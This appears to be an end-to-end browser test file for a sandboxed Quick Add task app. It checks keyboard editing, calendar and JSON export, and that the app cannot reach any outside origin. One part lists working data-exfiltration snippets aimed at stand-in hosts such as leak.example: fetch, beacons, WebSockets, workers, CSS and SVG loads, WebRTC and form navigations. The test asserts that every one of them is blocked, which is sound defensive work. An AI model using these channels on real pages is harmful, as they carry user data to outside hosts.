// Quick Add in a real browser, from the printed address to an exported task, by keyboard alone; and
// the page trying to reach anything but its own origin. Start it through run.mjs.
import assert from 'node:assert/strict';
import { mkdirSync, readFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { test } from 'node:test';
import { appFrame, openBrowser, openSink, violations } from './browser.mjs';

const kUrl = process.env.LOCARA_URL ?? '';
const kNote = 'lunch with Ana next Friday at noon, urgent';
/** The shell ignores answers for a third of a second after it asks. */
const kGuardMs = 500;

/** The Friday of the next week, weeks starting on Monday, reckoned apart from the app's own code. */
function nextFriday(now = new Date()) {
    const day = new Date(now.getFullYear(), now.getMonth(), now.getDate(), 12);
    while (day.getDay() !== 1) day.setDate(day.getDate() - 1);
    day.setDate(day.getDate() + 11);
    const pad = (number) => String(number).padStart(2, '0');
    return `${day.getFullYear()}-${pad(day.getMonth() + 1)}-${pad(day.getDate())}`;
}

async function save(page, frame, button) {
    await frame.getByRole('button', { name: button }).focus();
    await page.keyboard.press('Enter');
    await page.waitForSelector('#save:not([hidden])');
    assert.equal(await page.evaluate(() => document.activeElement?.id), 'save-yes');
    await page.waitForTimeout(kGuardMs);
    const download = page.waitForEvent('download');
    await page.keyboard.press('Enter');
    const done = await download;
    return { name: done.suggestedFilename(), text: readFileSync(await done.path(), 'utf8') };
}

/**
 * What an app's own script may try. Each is a function of the address; it runs as a script of the
 * app's origin, because what the driver runs in a page has rights that no page has.
 */
const kAttacks = {
    fetch: (to) => fetch(to),
    'fetch-no-cors': (to) => fetch(to, { mode: 'no-cors', method: 'POST', body: 'secret' }),
    'fetch-keepalive': (to) => fetch(to, { mode: 'no-cors', keepalive: true }),
    xhr: (to) => {
        const request = new XMLHttpRequest();
        request.open('GET', to);
        request.send();
    },
    beacon: (to) => navigator.sendBeacon(to, 'secret'),
    websocket: (to) => void new WebSocket(to.replace(/^http/, 'ws')),
    webtransport: (to) => new WebTransport(to.replace(/^http:/, 'https:')).ready,
    eventsource: (to) => void new EventSource(to),
    elements: (to) => {
        for (const kind of ['img', 'script', 'iframe', 'video', 'audio', 'embed', 'object', 'track', 'input']) {
            const element = document.createElement(kind);
            if (kind === 'input') element.type = 'image';
            element[kind === 'object' ? 'data' : 'src'] = `${to}-${kind}`;
            document.body.append(element);
        }
    },
    links: (to) => {
        for (const rel of ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'preconnect', 'dns-prefetch', 'next', 'alternate stylesheet']) {
            document.head.append(Object.assign(document.createElement('link'), { rel, as: 'script', href: `${to}-${rel.replace(' ', '-')}` }));
        }
    },
    speculation: (to) => {
        const rules = document.createElement('script');
        rules.type = 'speculationrules';
        rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }], prerender: [{ source: 'list', urls: [to] }] });
        document.head.append(rules);
    },
    styles: (to) => {
        const style = document.createElement('style');
        style.textContent = `@import url("${to}-import"); body { background-image: url("${to}-background"); cursor: url("${to}-cursor"), auto; } @font-face { font-family: leak; src: url("${to}-font"); } h1 { font-family: leak; }`;
        document.head.append(style);
    },
    svg: (to) => {
        document.body.insertAdjacentHTML('beforeend', `<svg><image href="${to}-svg"/><use href="${to}-use#x"/></svg>`);
    },
    worker: (to) => {
        const source = `fetch(${JSON.stringify(to)}, { mode: 'no-cors' }).catch(() => 0); try { importScripts(${JSON.stringify(to)}) } catch {}`;
        void new Worker(URL.createObjectURL(new Blob([source])));
    },
    'service-worker': (to) => navigator.serviceWorker.register(to),
    'module-import': (to) => import(to),
    ping: (to) => {
        const link = Object.assign(document.createElement('a'), { href: '#', ping: to });
        document.body.append(link);
        link.click();
    },
    popup: (to) => void window.open(to),
    'link-blank': (to) => {
        const link = Object.assign(document.createElement('a'), { href: to, target: '_blank' });
        document.body.append(link);
        link.click();
    },
    'form-blank': (to) => {
        const form = Object.assign(document.createElement('form'), { action: to, target: '_blank' });
        document.body.append(form);
        form.submit();
    },
};

/** Ways to say a name to the outside that no header of a page can close; see docs/security.md. */
const kNames = {
    webrtc: (to) => {
        const host = new URL(to).host;
        const peer = new RTCPeerConnection({
            iceServers: [{ urls: `stun:${host}` }, { urls: `turn:${host}?transport=tcp`, username: 'secret', credential: 'x' }],
        });
        peer.createDataChannel('x');
        return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
};

const kNavigations = {
    location: (to) => void (location.href = to),
    replace: (to) => location.replace(to),
    'meta-refresh': (to) => document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${to}">`),
    'open-self': (to) => void window.open(to, '_self'),
    link: (to) => {
        const link = Object.assign(document.createElement('a'), { href: to });
        document.body.append(link);
        link.click();
    },
    download: (to) => {
        const link = Object.assign(document.createElement('a'), { href: to, download: 'x' });
        document.body.append(link);
        link.click();
    },
    'form-post': (to) => {
        const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
        form.append(Object.assign(document.createElement('input'), { name: 'secret', value: 'x' }));
        document.body.append(form);
        form.submit();
    },
    'form-get': (to) => {
        const form = Object.assign(document.createElement('form'), { action: to });
        document.body.append(form);
        form.submit();
    },
    'form-top': (to) => {
        const form = Object.assign(document.createElement('form'), { action: to, target: '_top' });
        document.body.append(form);
        form.submit();
    },
    'link-top': (to) => {
        const link = Object.assign(document.createElement('a'), { href: to, target: '_top' });
        document.body.append(link);
        link.click();
    },
    top: (to) => void (window.top.location.href = to),
};

/** Of these, the ones after which the browser shows its own error page in the frame. */
const kLeaving = ['location', 'replace', 'meta-refresh', 'open-self', 'link'];

/** A script that makes each attempt on each target, and counts the attempts. */
function attackSource(attacks, targets) {
    const list = Object.entries(attacks).map(([name, attack]) => `[${JSON.stringify(name)}, ${attack.toString()}]`);
    return `globalThis.attempts = 0;
for (const [name, attack] of [${list.join(',\n')}]) {
    for (const target of ${JSON.stringify(targets)}) {
        try { Promise.resolve(attack(target + '/leak-' + name)).catch(() => 0); } catch {}
        globalThis.attempts++;
    }
}`;
}

/** Lets texts run as scripts of the app's own origin, in every page of the context. */
async function openToScripts(context) {
    let source = '';
    await context.route(
        (url) => url.pathname === '/attack.js',
        (route) => route.fulfill({ contentType: 'text/javascript', body: source }),
    );
    /** Returns how many attempts the text made, or null if the frame was gone before it could tell. */
    return (frame, text) => {
        source = text;
        const running = frame
            .evaluate(
                () =>
                    new Promise((resolve) => {
                        const script = document.createElement('script');
                        script.src = `/attack.js?${Math.random()}`;
                        script.onload = () => resolve(globalThis.attempts);
                        script.onerror = () => resolve(-1);
                        document.head.append(script);
                    }),
            )
            .catch(() => null);
        // A frame that is on its way elsewhere may never answer.
        return Promise.race([running, new Promise((resolve) => setTimeout(resolve, 1000, null))]);
    };
}

/** A new tab with the session that another tab has. */
async function openTab(context, kept) {
    const page = await context.newPage();
    await page.addInitScript((entries) => {
        if (location.hostname !== 'locara.localhost') return;
        for (const [key, value] of Object.entries(entries)) sessionStorage.setItem(key, value);
    }, kept);
    return page;
}

/** The app's page anew, with the session that the tab still has. */
async function reopen(page, shell) {
    await page.goto(`${shell}/app/locara--quick-add`);
    return appFrame(page, '#note');
}

test('Quick Add in the browser', { timeout: 240_000 }, async (t) => {
    assert.match(kUrl, /^http:\/\/locara\.localhost:\d+\/app\/locara--quick-add#./, 'LOCARA_URL (see run.mjs)');
    const shell = new URL(kUrl).origin;
    const app = shell.replace('//locara.', '//locara--quick-add.');
    const sink = await openSink();
    const { context, close } = await openBrowser(sink);
    t.after(async () => {
        await close();
        sink.close();
    });
    const requests = [];
    const errors = [];
    context.on('request', (request) => requests.push(request.url()));
    context.on('weberror', (error) => errors.push(String(error.error())));
    context.on('console', (message) => {
        if (message.type() === 'error') errors.push(message.text());
    });
    const page = context.pages()[0] ?? (await context.newPage());
    await page.goto(kUrl);
    let frame = await appFrame(page, '#note');

    await t.test('opens, forgets the launch code, and says what the app may do', async () => {
        assert.equal(page.url(), `${shell}/app/locara--quick-add`);
        assert.equal(new URL(frame.url()).origin, app);
        assert.match((await page.textContent('#network-text')) ?? '', /no network/i);
        assert.match(await page.title(), /Quick Add/);
        assert.deepEqual(await violations(page.mainFrame()), []);
        assert.deepEqual(await violations(frame), []);
    });

    await t.test('frames the app without the rights that could carry data away', async () => {
        const sandbox = (await page.getAttribute('iframe', 'sandbox')) ?? '';
        assert.deepEqual(sandbox.split(' ').sort(), ['allow-forms', 'allow-same-origin', 'allow-scripts']);
        const stored = await frame.evaluate(() => JSON.stringify({ ...localStorage }));
        const token = await page.evaluate(() => Object.values(sessionStorage).join(' '));
        const secret = /"token":"([^"]+)"/.exec(token)?.[1] ?? '';
        assert.ok(secret.length >= 32);
        assert.ok(!stored.includes(secret));
        assert.ok(!requests.some((url) => url.includes(secret)), 'the token stood in an address');
    });

    await t.test('makes a task of the note while the model writes it', async () => {
        await frame.waitForFunction(() => document.activeElement?.id === 'note');
        await page.keyboard.type(kNote);
        await page.keyboard.press('Enter');
        await frame.waitForSelector('.row .check', { timeout: 60_000 });
        assert.equal(await frame.textContent('.row .title'), 'Lunch with Ana');
        assert.match((await frame.textContent('.row')) ?? '', /12:00/);
        assert.match((await frame.textContent('.row')) ?? '', /“next Friday”/);
        assert.match((await frame.textContent('.row .priority')) ?? '', /high/);
        assert.match((await frame.textContent('[role=status]')) ?? '', /Added: Lunch with Ana/);
        const kept = await frame.evaluate(() => JSON.parse(localStorage.getItem('quick-add.tasks')));
        assert.equal(kept.version, 1);
        assert.equal(kept.tasks[0].date, nextFriday());
    });

    await t.test('is edited with the keyboard alone', async () => {
        await page.keyboard.press('ArrowDown');
        await page.keyboard.press('Enter');
        await frame.waitForSelector('.editor');
        assert.deepEqual(await violations(frame), []);
        await page.keyboard.type('Lunch with Ana, upstairs; bring €5');
        // Title, words, then the three parts of the day and its button, and so on: go on until the tags.
        for (let presses = 0; presses < 20; presses++) {
            await page.keyboard.press('Tab');
            if (await frame.evaluate(() => document.activeElement?.id.startsWith('tags-') === true)) break;
        }
        await page.keyboard.type('food, friends');
        await page.keyboard.press('Enter');
        await frame.waitForSelector('.editor', { state: 'detached' });
        assert.equal(await frame.textContent('.row .title'), 'Lunch with Ana, upstairs; bring €5');
        assert.deepEqual(await frame.locator('.row .chip').allTextContents(), ['#food', '#friends']);
        await frame.waitForFunction(() => document.activeElement?.matches('.check') === true);
    });

    await t.test('is still there after a reload, without a new code', async () => {
        await page.reload();
        frame = await appFrame(page, '.row');
        assert.equal(await frame.textContent('.row .title'), 'Lunch with Ana, upstairs; bring €5');
    });

    await t.test('deletes and brings back', async () => {
        await frame.waitForFunction(() => document.activeElement?.id === 'note');
        await page.keyboard.press('ArrowDown');
        await page.keyboard.press('Delete');
        await frame.waitForSelector('.row', { state: 'detached' });
        await page.keyboard.press('Escape');
        await frame.getByRole('button', { name: 'Undo' }).press('Enter');
        await frame.waitForSelector('.row');
    });

    await t.test('shows the keys', async () => {
        await frame.focus('.row .check');
        await page.keyboard.press('?');
        await frame.waitForSelector('dialog[open]');
        assert.deepEqual(await violations(frame), []);
        await page.keyboard.press('Escape');
        await frame.waitForSelector('dialog[open]', { state: 'detached' });
    });

    let json = '';
    await t.test('exports a calendar through the shell', async () => {
        const file = await save(page, frame, /Save calendar/);
        assert.match(file.name, /^quick-add-\d{4}-\d{2}-\d{2}\.ics$/);
        assert.ok(file.text.startsWith('BEGIN:VCALENDAR\r\nVERSION:2.0\r\n') && file.text.endsWith('END:VCALENDAR\r\n'));
        for (const line of file.text.split('\r\n')) assert.ok(Buffer.byteLength(line) <= 75, line);
        const lines = file.text.replace(/\r\n /g, '').split('\r\n');
        assert.ok(lines.includes(`DTSTART:${nextFriday().replace(/-/g, '')}T120000`), file.text);
        assert.ok(lines.includes('SUMMARY:Lunch with Ana\\, upstairs\\; bring €5'));
        assert.ok(lines.includes('PRIORITY:1'));
        assert.ok(lines.includes('CATEGORIES:food,friends'));
        assert.ok(lines.includes(`DESCRIPTION:${kNote.replace(',', '\\,')}\\nDate as written: next Friday`));
    });

    await t.test('exports JSON, and imports it again', async () => {
        const file = await save(page, frame, /Save all/);
        json = file.text;
        const body = JSON.parse(json);
        assert.equal(body.schema, 'locara.quick-add/1');
        assert.equal(body.tasks.length, 1);
        assert.deepEqual(
            [body.tasks[0].note, body.tasks[0].dateWords, body.tasks[0].date, body.tasks[0].time, body.tasks[0].priority],
            [kNote, 'next Friday', nextFriday(), '12:00', 'high'],
        );
        await frame.focus('.row .check');
        await page.keyboard.press('Delete');
        await frame.waitForSelector('.row', { state: 'detached' });
        await frame.setInputFiles('input[type=file]', { name: 'tasks.json', mimeType: 'application/json', buffer: Buffer.from(json) });
        await frame.waitForSelector('.row');
        assert.match((await frame.textContent('.banner.plain')) ?? '', /1 added/);
        await frame.setInputFiles('input[type=file]', { name: 'x.json', mimeType: 'application/json', buffer: Buffer.from('{"schema":"other"}') });
        await frame.waitForFunction(() => /not imported.*“other”/.test(document.querySelector('.banner.plain')?.textContent ?? ''));
    });

    await t.test('does not save what the person discards', async () => {
        let downloads = 0;
        page.on('download', () => downloads++);
        await frame.getByRole('button', { name: /Save all/ }).focus();
        await page.keyboard.press('Enter');
        await page.waitForSelector('#save:not([hidden])');
        // An answer given before the question could be read counts for nothing.
        await page.keyboard.press('Enter');
        await page.waitForTimeout(kGuardMs);
        await page.keyboard.press('Escape');
        await page.waitForSelector('#save', { state: 'hidden' });
        assert.equal(downloads, 0);
    });

    await t.test('asked nobody but its two origins, and nothing went wrong', () => {
        const strange = requests.filter((url) => !url.startsWith(`${shell}/`) && !url.startsWith(`${app}/`) && !url.startsWith('blob:'));
        assert.deepEqual(strange, []);
        assert.deepEqual(sink.take(), { requests: [], connections: 0 });
        assert.deepEqual(errors, []);
        assert.ok(requests.some((url) => url === `${app}/v1/chat/completions`));
    });

    await t.test('keeps the note when the engine fails, and reads it on the second try', async () => {
        const route = `${app}/v1/chat/completions`;
        await page.route(route, (request) =>
            request.fulfill({
                status: 503,
                contentType: 'application/json',
                body: '{"error":{"message":"The engine stopped.","code":"engine_failed","hint":"Try again."}}',
            }),
        );
        await frame.fill('#note', 'buy milk and eggs');
        await frame.press('#note', 'Enter');
        await frame.waitForSelector('.card.failed');
        assert.match((await frame.textContent('.card')) ?? '', /The engine stopped\. Try again\./);
        assert.deepEqual(await violations(frame), []);
        await page.unroute(route);
        await page.reload();
        frame = await appFrame(page, '.row');
        await frame.waitForFunction(() => document.querySelectorAll('.row').length === 2);
        assert.deepEqual((await frame.locator('.row .title').allTextContents()).sort(), [
            'Buy milk and eggs',
            'Lunch with Ana, upstairs; bring €5',
        ]);
    });

    await t.test('puts data that it cannot read aside and offers it', async () => {
        await frame.evaluate(() => {
            localStorage.setItem('kept', localStorage.getItem('quick-add.tasks'));
            localStorage.setItem('quick-add.tasks', '{"version":1,"tasks":[{"id":"x"');
        });
        await page.reload();
        frame = await appFrame(page, '.banner');
        assert.match((await frame.textContent('.banner')) ?? '', /could not be read/);
        const file = await save(page, frame, 'Save it as a file');
        assert.equal(file.text, '{"version":1,"tasks":[{"id":"x"');
        await frame.getByRole('button', { name: 'Forget it' }).click();
        await frame.evaluate(() => {
            localStorage.setItem('quick-add.tasks', localStorage.getItem('kept'));
            localStorage.removeItem('kept');
        });
        await page.reload();
        frame = await appFrame(page, '.row');
    });

    await t.test('opens an address only once', async () => {
        const second = await context.newPage();
        await second.goto(kUrl);
        await second.waitForSelector('#message:not([hidden])');
        assert.match((await second.textContent('#message-title')) ?? '', /already used/);
        assert.match((await second.textContent('.command-text')) ?? '', /locara run locara\/quick-add/);
        assert.equal(await second.locator('iframe').count(), 0);
        assert.deepEqual(await violations(second.mainFrame()), []);
        await second.close();
    });

    if (process.env.LOCARA_SCREENSHOTS) {
        await t.test('is photographed for its card', async () => {
            const folder = join(process.env.LOCARA_SCREENSHOTS, 'quick-add/screenshots');
            mkdirSync(folder, { recursive: true });
            const notes = [
                'pay rent today, urgent #home',
                'call mom tomorrow at 5pm #family',
                'review the contract tomorrow at 10am #work',
                'finish the report by Friday, no rush #work',
                'book flights in 3 days #holiday',
            ];
            await frame.fill('#note', notes.join('\n'));
            await frame.press('#note', 'Enter');
            await frame.waitForFunction(() => document.querySelectorAll('.row').length === 7);
            await frame.evaluate(() => document.querySelector('.hint button')?.click());
            await page.setViewportSize({ width: 1100, height: 860 });
            await page.waitForTimeout(300);
            await page.screenshot({ path: join(folder, 'list.png') });
            await page.emulateMedia({ colorScheme: 'dark' });
            await page.setViewportSize({ width: 430, height: 860 });
            await page.waitForTimeout(300);
            await page.screenshot({ path: join(folder, 'dark.png') });
            await page.emulateMedia({ colorScheme: 'light' });
            await page.setViewportSize({ width: 1280, height: 800 });
        });
    }

    await t.test('the sink sees a page that is not confined (so that the next tests can fail)', async () => {
        sink.take();
        const free = await context.newPage();
        try {
            await free.goto(`http://127.0.0.1:${sink.port}/start`);
            await free.evaluate((port) => fetch(`http://127.0.0.1:${port}/fetched`), sink.port);
            await free.goto(`http://leak.example:${sink.port}/named`);
            await free.goto(`https://leak.example:${sink.port}/secure`);
        } finally {
            await free.close();
        }
        const seen = sink.take().requests;
        for (const path of ['/fetched', '/named', '/secure']) assert.ok(seen.includes(`GET ${path}`), seen.join(', '));
    });

    const targets = ['http://127.0.0.1', 'http://leak.example', 'https://leak.example', 'http://other.localhost'].map(
        (host) => `${host}:${sink.port}`,
    );

    const kept = await page.evaluate(() => ({ ...sessionStorage }));
    const runScript = await openToScripts(context);

    await t.test('cannot send a request to any other address', async () => {
        const tab = await openTab(context, kept);
        const inside = await reopen(tab, shell);
        sink.take();
        const pages = context.pages().length;
        const made = await runScript(inside, attackSource(kAttacks, targets));
        assert.equal(made, Object.keys(kAttacks).length * targets.length, 'not every attempt was made');
        await tab.waitForTimeout(1500);
        assert.deepEqual(sink.take().requests, []);
        assert.equal(context.pages().length, pages);
        assert.equal(tab.url(), `${shell}/app/locara--quick-add`);
        await tab.close();
    });

    await t.test('cannot navigate away with data, neither its frame nor the page around it', async (t) => {
        let connections = 0;
        for (const [name, attack] of Object.entries(kNavigations)) {
            for (const target of targets.slice(1, 3)) {
                const tab = await openTab(context, kept);
                const inside = await reopen(tab, shell);
                sink.take();
                const pages = context.pages().length;
                assert.notEqual(await runScript(inside, attackSource({ [name]: attack }, [target])), -1);
                await tab.waitForTimeout(250);
                const seen = sink.take();
                connections += seen.connections;
                if (kLeaving.includes(name)) {
                    const left = tab.frames().every((one) => !one.url().startsWith(app));
                    assert.ok(left, `${name} did not even try to leave: this test would see nothing`);
                }
                assert.deepEqual(seen.requests, [], `${name} to ${target}`);
                assert.equal(tab.url(), `${shell}/app/locara--quick-add`, name);
                assert.equal(context.pages().length, pages, name);
                await tab.close();
            }
        }
        t.diagnostic(`bare connections ahead of refused navigations: ${connections}`);
    });

    await t.test('reaches nothing at all in a browser that resolves only our names', async () => {
        const confined = await openBrowser(sink, { confined: true });
        try {
            const runConfined = await openToScripts(confined.context);
            sink.take();
            for (const attacks of [{ ...kAttacks, ...kNames }, ...Object.entries(kNavigations).map(([name, attack]) => ({ [name]: attack }))]) {
                const tab = await openTab(confined.context, kept);
                const inside = await reopen(tab, shell);
                assert.notEqual(await runConfined(inside, attackSource(attacks, [targets[0], targets[2]])), -1);
                await tab.waitForTimeout(Object.keys(attacks).length > 1 ? 1500 : 250);
                assert.deepEqual(sink.take(), { requests: [], connections: 0 }, Object.keys(attacks).join(', '));
                await tab.close();
            }
        } finally {
            await confined.close();
        }
    });

    await t.test('cannot read the shell or ask its routes', async () => {
        frame = await reopen(page, shell);
        const answers = await frame.evaluate(async (shellOrigin) => {
            const tried = [];
            try {
                tried.push(window.parent.document.title);
            } catch {
                tried.push('refused');
            }
            tried.push(
                await fetch(`${shellOrigin}/locara/v1/launch`, { method: 'POST', body: '{}' }).then(
                    () => 'answered',
                    () => 'refused',
                ),
            );
            return tried;
        }, shell);
        assert.deepEqual(answers, ['refused', 'refused']);
    });

    await t.test('stops: the tab forgets its key, which opens nothing any more', async () => {
        const { token, origin } = await page.evaluate(() => JSON.parse(Object.values(sessionStorage)[0]));
        const askWithKey = () =>
            new Promise((resolve, reject) => {
                const { host, port } = new URL(origin);
                const headers = { Host: host, Authorization: `Bearer ${token}` };
                request({ host: '127.0.0.1', port, path: '/v1/models', headers }, (answer) => {
                    answer.resume();
                    resolve(answer.statusCode);
                })
                    .on('error', reject)
                    .end();
            });
        assert.equal(await askWithKey(), 200);
        const closed = page.waitForResponse(/\/locara\/v1\/close$/);
        await page.click('#stop');
        assert.equal((await closed).status(), 200);
        assert.equal(await askWithKey(), 401);
        assert.equal(await page.locator('iframe').count(), 0);
        assert.equal(await page.evaluate(() => sessionStorage.length), 0);
        await page.reload();
        await page.waitForSelector('#message:not([hidden])');
        assert.match((await page.textContent('#message-title')) ?? '', /ended/);
    });
});
